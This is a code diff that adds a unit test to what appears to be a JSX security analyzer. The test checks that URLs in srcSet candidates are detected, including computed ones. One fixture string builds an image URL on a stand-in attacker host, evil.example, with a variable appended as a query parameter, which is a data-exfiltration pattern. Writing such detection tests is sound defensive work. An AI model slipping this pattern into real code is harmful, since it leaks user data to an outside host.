@@ -281,6 +281,20 @@ describe('a meta refresh and a stylesheet however the code gives them', () => {
 })
 
 describe('every attribute that takes a URL', () => {
+  test('each candidate of a srcset is a URL of its own', () => {
+    const later = "return <img srcSet={'/a.png 1x, https://evil.example/b.png?d=' + v + ' 2x'} />"
+    expect(said(inComponent(later))).toContain(COMPLETES('srcSet'))
+    // What the code computes may add candidates of any host.
+    const added = "return <img srcSet={'/a.png?x=' + v + ' 1x'} />"
+    expect(said(inComponent(added))).toEqual([BUILT('srcSet')])
+    const written = 'return <img srcSet="/a.png 1x,https://evil.example/b.png 2x" />'
+    expect(readScript(inComponent(written), SNIPPET, ALLOWED).urls).toEqual([
+      { line: 3, url: 'https://evil.example/b.png' },
+    ])
+    const own = 'return <img srcSet={`/img/${children}.png 1x, /img/${children}@2x.png 2x`} />'
+    expect(said(inComponent(own))).toEqual([])
+  })
+
   test.each(['imageSrcSet', 'imagesrcset', 'attributionSrc', 'lowsrc', 'dynsrc', 'longDesc'])(
     '%s',
     (name) => {
